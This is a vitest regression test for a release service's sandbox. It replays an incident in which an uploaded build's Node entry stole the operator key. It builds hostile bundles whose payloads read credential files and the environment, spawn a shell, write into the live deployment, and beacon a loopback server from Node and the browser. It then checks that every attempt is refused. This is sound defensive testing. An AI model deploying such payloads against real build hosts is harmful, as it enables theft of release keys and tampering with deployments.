/**
 * Issue 40, item 1, replayed as it was found: an upload made with a team's key whose Node entry
 * (ssr/remoteEntry.js), loaded by the release gates before any refusal, read `releases/operator.key` and got it
 * back in the 422 reply; another wrote `shell/pwned.txt` and added a `shell`-scoped key to `keys.json`. Now the
 * build's code runs only in the sandbox (platform-kit/sandbox): every attempt (those two, reading the environment,
 * starting a process, calling a server on the host's loopback, from its Node code and from its browser code)
 * fails, the release is refused naming the gate, the reply holds no secret and no host path, and nothing in the
 * deploy changes. Real builds (each app's dist/, as `pnpm build` left it), the real service on loopback.
 */
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { UploadAuditEntry } from 'build-config/release-protocol';
import { readAuditWithUploads } from 'deploy-folder/audit';
import { loadChangeSettings } from 'deploy-model/change-settings';
import { appDist, repoRoot } from 'platform-kit/paths';
import { publishAll } from 'releases/changes/publish-site';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { digestOf, post, startService, upload } from '../testing/service.ts';
import { createKey, ensureOperatorKey } from './keys.ts';
import type { RunningReleaseService } from './server.ts';

const secret = `host-secret-${process.pid}-${Date.now()}`;
const env = {
  ...process.env,
  AGENCY_PORT_BASE: '5760',
  AGENCY_CANARY_CHECK_SECONDS: '0',
  // A secret in the service's environment, as a production host has (a mail password, a token).
  AGENCY_TEST_HOST_SECRET: secret,
};

let work: string;
let deploy: string;
let service: RunningReleaseService;
let hostServer: Server;
const hostCalls: string[] = [];
const keys = { operator: '', portfolio: '', marketing: '' };

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'team-code-attacks-'));
  deploy = join(work, 'deploy');
  publishAll(deploy, loadChangeSettings(env));
  keys.operator = ensureOperatorKey(deploy);
  keys.portfolio = createKey(deploy, 'mf-portfolio', 'portfolio-ci').key;
  keys.marketing = createKey(deploy, 'mf-marketing', 'marketing-ci').key;
  service = await startService(deploy, env);
  hostServer = createServer((request, response) => {
    hostCalls.push(request.url ?? '');
    response.end('ok');
  });
  // A WebSocket is not a request the browser's driver intercepts. Chromium's own local-network checks refuse it
  // as well; that the sandbox's namespace alone stops any network is platform-kit's sandbox.test.ts.
  hostServer.on('upgrade', (request, socket) => {
    hostCalls.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => hostServer.listen(0, '127.0.0.1', done));
}, 240_000);

afterAll(async () => {
  await service?.stop();
  hostServer?.close();
  rmSync(work, { recursive: true, force: true });
});

const hostUrl = () => `http://127.0.0.1:${(hostServer.address() as AddressInfo).port}`;

/**
 * A remote's real build whose Node entry runs `attack` when it loads, then throws what it got (as the issue's
 * upload did, to carry it back in the reply), and whose standalone page calls the host's server when it opens.
 */
function hostileBuild(app: 'mf-portfolio' | 'mf-marketing', attack: string): string {
  const dir = join(work, `${app}-hostile-${hostCalls.length}-${Date.now()}`);
  cpSync(appDist(app), dir, { recursive: true });
  const nodeEntry = join(dir, 'ssr', 'remoteEntry.js');
  const payload = `(() => {
  const fs = process.getBuiltinModule('node:fs');
  const got = {};
  const tryIt = (name, run) => { try { got[name] = 'ok: ' + run(); } catch (error) { got[name] = 'refused: ' + (error.code || error.message); } };
  ${attack}
  tryIt('environment', () => JSON.stringify(process.env));
  tryIt('start a process', () => process.getBuiltinModule('node:child_process').execFileSync('/bin/sh', ['-c', 'id -u'], { encoding: 'utf8' }));
  fetch(${JSON.stringify(`${hostUrl()}/from-node`)}).catch(() => undefined);
  throw new Error('got ' + JSON.stringify(got));
})();
`;
  writeFileSync(nodeEntry, payload + readFileSync(nodeEntry, 'utf8'));
  // Its standalone page, which the Chromium gate opens, calls the host as soon as it is parsed.
  const page = join(dir, 'index.html');
  const beacon = `<script>fetch(${JSON.stringify(`${hostUrl()}/from-browser`)}).catch(()=>{});new Image().src=${JSON.stringify(`${hostUrl()}/from-browser-image`)};new WebSocket(${JSON.stringify(`${hostUrl().replace('http', 'ws')}/from-browser-socket`)});</script>`;
  writeFileSync(page, readFileSync(page, 'utf8').replace('<head>', `<head>${beacon}`));
  return dir;
}

const lastUpload = () =>
  readAuditWithUploads(deploy)
    .filter((entry): entry is UploadAuditEntry => entry.action === 'upload')
    .at(-1);

/** What every replay must hold: refused by the gate, nothing secret or of the host in the reply, nothing changed. */
function expectContained(reply: { status: number; body: Record<string, unknown> }, before: object): string {
  const text = JSON.stringify(reply.body);
  expect(reply.status).toBe(422);
  expect(reply.body.problem).toBe('render-failed');
  expect(text).toContain('could not be loaded');
  for (const held of [keys.operator, keys.portfolio, keys.marketing, secret, deploy, work, repoRoot])
    expect(text).not.toContain(held);
  expect(digestOf(deploy)).toEqual(before);
  expect(existsSync(join(deploy, 'shell', 'pwned.txt'))).toBe(false);
  return text;
}

describe("a team's upload attacks the release host (issue 40)", () => {
  it('reads the operator key, keys.json and the environment: refused, and the reply holds none of them', async () => {
    const before = digestOf(deploy);
    const build = hostileBuild(
      'mf-portfolio',
      `tryIt('read the operator key', () => fs.readFileSync(${JSON.stringify(join(deploy, 'releases', 'operator.key'))}, 'utf8'));
  tryIt('read keys.json', () => fs.readFileSync(${JSON.stringify(join(deploy, 'releases', 'keys.json'))}, 'utf8'));
  tryIt('read the checkout', () => fs.readFileSync(${JSON.stringify(join(repoRoot, 'package.json'))}, 'utf8'));`,
    );
    const reply = await upload(service.url, keys.portfolio, 'mf-portfolio', build);
    const text = expectContained(reply, before);
    expect(text).toContain('read the operator key\\":\\"refused: ERR_ACCESS_DENIED');
    expect(text).toContain('read keys.json\\":\\"refused: ERR_ACCESS_DENIED');
    expect(text).toContain('read the checkout\\":\\"refused: ERR_ACCESS_DENIED');
    expect(text).toContain('start a process\\":\\"refused: ERR_ACCESS_DENIED');
    // The upload is in the audit log, refused, with the gate's reason.
    expect(lastUpload()).toMatchObject({
      by: 'portfolio-ci',
      outcome: 'refused',
      problem: 'render-failed',
      status: 422,
    });
    // A key it could have stolen would pass the operator's check: the real one is still the only one that does.
    expect((await post(service.url, keys.portfolio, '/v1/check')).status).toBe(403);
  }, 240_000);

  it('writes into the live shell and adds a shell key to keys.json: refused, nothing written', async () => {
    const keysFile = join(deploy, 'releases', 'keys.json');
    const keysBefore = readFileSync(keysFile, 'utf8');
    const before = digestOf(deploy);
    const build = hostileBuild(
      'mf-marketing',
      `tryIt('write into the live shell', () => { fs.writeFileSync(${JSON.stringify(join(deploy, 'shell', 'pwned.txt'))}, 'pwned'); return 'written'; });
  tryIt('add a shell key', () => { fs.appendFileSync(${JSON.stringify(keysFile)}, ''); return 'written'; });
  tryIt('write its own scratch', () => { fs.writeFileSync('scratch.txt', 'x'); return 'written'; });`,
    );
    const reply = await upload(service.url, keys.marketing, 'mf-marketing', build);
    const text = expectContained(reply, before);
    expect(text).toContain('write into the live shell\\":\\"refused: ERR_ACCESS_DENIED');
    expect(text).toContain('add a shell key\\":\\"refused: ERR_ACCESS_DENIED');
    expect(text).toContain('write its own scratch\\":\\"ok: written');
    expect(readFileSync(keysFile, 'utf8')).toBe(keysBefore);
  }, 240_000);

  it("calls a server on the host's loopback from its Node and its browser code: no request arrives", async () => {
    // Both uploads above tried, from Node when their entry loaded and from Chromium when their page opened.
    await new Promise((done) => setTimeout(done, 3000));
    expect(hostCalls).toEqual([]);
    // The test's server does answer on loopback: the refusal was the sandbox's.
    expect((await fetch(`${hostUrl()}/from-the-test`)).status).toBe(200);
    expect(hostCalls).toEqual(['/from-the-test']);
  });
});
